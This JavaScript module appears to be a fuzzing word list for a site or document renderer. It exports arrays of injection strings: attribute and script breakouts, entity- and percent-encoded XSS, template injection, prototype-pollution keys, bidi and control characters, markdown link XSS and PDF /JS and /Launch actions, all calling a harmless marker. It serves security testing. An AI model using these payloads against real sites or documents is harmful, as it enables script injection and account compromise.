// Payloads that are no tags: what breaks out of attributes, scripts, JSON, XML, templates and PDF strings, and what is decoded
// once too often. As in `tags.mjs`, without line breaks.
const RUN = 'zhit(§)';
const { raw } = String;

const ATTRIBUTES = [
  `" onmouseover="${RUN}`, `' onmouseover='${RUN}`, `" autofocus onfocus=${RUN} tabindex=0 x="`, `"><svg onload=${RUN}>`, `'><svg onload=${RUN}>`,
  `"/><script>${RUN}</script>`,
  `\` onmouseover=\`${RUN}`, `x" style="animation:x 1s" onanimationstart="${RUN}`, `x" src="//canary.example/§" x="`,
  `" http-equiv="refresh" content="0;url=javascript:${RUN}`,
  `" onmouseover=${RUN} `, `"onclick=${RUN}//`, `/onmouseover=${RUN}/`, ` onmouseover=${RUN} `, `"\u00a0onclick=${RUN}\u00a0`,
  `&quot; onmouseover=&quot;${RUN}`, `&#34; onmouseover=&#34;${RUN}`,
  `\\" onmouseover="${RUN}`, `\\\\" onclick="${RUN}`,
];

/** What is harmless until somebody decodes it again. */
const DECODED = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&quot;&gt;&lt;svg onload=${RUN}&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
  `&#0000060script>${RUN}</script>`, `&#60script>${RUN}&#60/script>`, `&ltscript>${RUN}&lt/script>`, `&LT;script&GT;${RUN}&LT;/script&GT;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `&amp;#60;script&amp;#62;${RUN}`, `%3Cscript%3E${RUN}%3C/script%3E`, `%253Cscript%253E${RUN}`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `\\74script\\76${RUN}\\74/script\\76`, `\\3c script\\3e ${RUN}`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\u2039script\u203a${RUN}`, `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
  `&nlt;svg onload=${RUN}&ngt;`, `&bsol;u003cscript${RUN}`, `=3Cscript=3E${RUN}`,
];

const TEMPLATES = [
  `{{ ${RUN} }}`, '{{ 7 * 7 }}', '{{ page.body | safe }}', '{% include "base.html" %}', '{% raw %}{% endblock main %}', '{# {{ site.title }} #}',
  '{{ get_env(name="HOME") }}', `{{constructor.constructor('${RUN}')()}}`,
  `$\{${RUN}}`, `#{${RUN}}`, `<%= ${RUN} %>`, `<?php ${RUN} ?>`, `{n} {title} {number} {date}`, `$& $1 $\` $' {title}`, `%s %n {0} {}`,
];

const SCRIPTS = [
  `';${RUN}//`, `";${RUN}//`, `\\';${RUN}//`, `\\";${RUN}//`, raw`\\";`.concat(RUN, '//'), `\`;${RUN}//`, `</script>`, `<!--<script>`, `*/${RUN}/*`,
  `//\u2028${RUN}`, `\u2029${RUN}//`, `"]);${RUN}//`, `\\n"]]);${RUN};(["`,
  `","__proto__":{"zhit":1},"x":"`, '__proto__', 'constructor', 'prototype.constructor', 'toString', 'hasOwnProperty', '-->', '<!--x', ']]>', '&y;', '%y;',
  '\\', '\\\\', '"', "'", '"}', '<', '&', '</', '<!',
];

/** Made for the marks of the program itself: those of the contents, of blanks, and of what `serve` adds. */
const MARKS = [
  '\ue000contents\ue001', '\ue000p0\ue001', '\ue000g0\ue001', '\ue000', '\ue001', 'reconnect-gen:live', '\u0001\u0001\u0001\u0001', '\u2060# x', '<body zhit>',
  '_main', 'wsf:0',
];

const SIGNS = [
  '\u001b]0;zhit\u0007', '\u001b[31mred', '\u009b31mred', '\u0007\u0008\u007f', '\u202ezhit\u202c', '\u2066zhit\u2069', '\u200f\u200e\u061c',
  '\u2028zhit\u2029zhit', '\u0085zhit', '\ufeffzhit', '\ufffezhit\uffff', '\u{e0041}\u{e007f}',
  '\ud83d\ude42\u200d\u2764\ufe0f', '\u0301\u0301\u0301', '\u000bzhit\u000c', '\u00adzhit', 'İıſK',
];

const MARKDOWN = [
  `[x](https://a.example/"onmouseover="${RUN})`, `[x](<https://a.example/" onmouseover="${RUN}>)`, `[x](https://a.example/?<script>${RUN}</script>)`,
  `[x](https://a.example/ '" onclick="${RUN}')`,
  `![a](/dot.svg "\\" onload=${RUN} x=\\"")`, `![a" onload="${RUN}](/dot.svg)`, `![<svg onload=${RUN}>](/dot.svg)`, `![a](/dot.svg '"><svg onload=${RUN}>')`,
  `[<svg onload=${RUN}>](https://a.example/)`,
  `<https://a.example/"onclick="${RUN}>`, `<x@a.example?"onclick=${RUN}>`, `\`<svg onload=${RUN}>\``, `\`\` \`<svg onload=${RUN}>\` \`\``,
  `[^"><svg onload=${RUN}>]`, `**<svg onload=${RUN}>**`, `~~<svg onload=${RUN}>~~`,
  `\\<script>${RUN}\\</script>`, `[x]: javascript:${RUN}`, `| <svg onload=${RUN}> |`, `$<svg onload=${RUN}>$`, `{#x onclick=${RUN}}`,
  `{.x style="background:url(//canary.example/§)"}`, `[!TIP] <svg onload=${RUN}>`,
  `:::raw <script>${RUN}</script>`, `[x](tel:1"onclick="${RUN})`, `[x](mailto:a@b.example?subject="><script>${RUN}</script>)`,
  `[x](sms:1?body='onclick='${RUN})`,
];

/** For PDF files: strings, names, dictionaries and objects. */
const PAPER = [
  ') /S /JavaScript /JS (app.alert(§))', '>> /OpenAction << /S /JavaScript /JS (app.alert(§)) >>', '\\) /JS (app.alert(§))',
  'endstream endobj 1 0 obj << /JS (x) >>', '/JavaScript /JS /Launch /OpenAction /AA',
  '(((', ')))', '<</S/JavaScript/JS(app.alert(§))>>', '<feff> /AA << /O << /S /Launch >> >>', '[x](https://a.example/\\)/S/JavaScript/JS\\(app.alert§)',
  '[x](<https://a.example/)>>/A<</S/JavaScript/JS(app.alert(§)>)',
];

export const WORDS = [...ATTRIBUTES, ...DECODED, ...TEMPLATES, ...SCRIPTS, ...MARKS, ...SIGNS, ...MARKDOWN, ...PAPER];
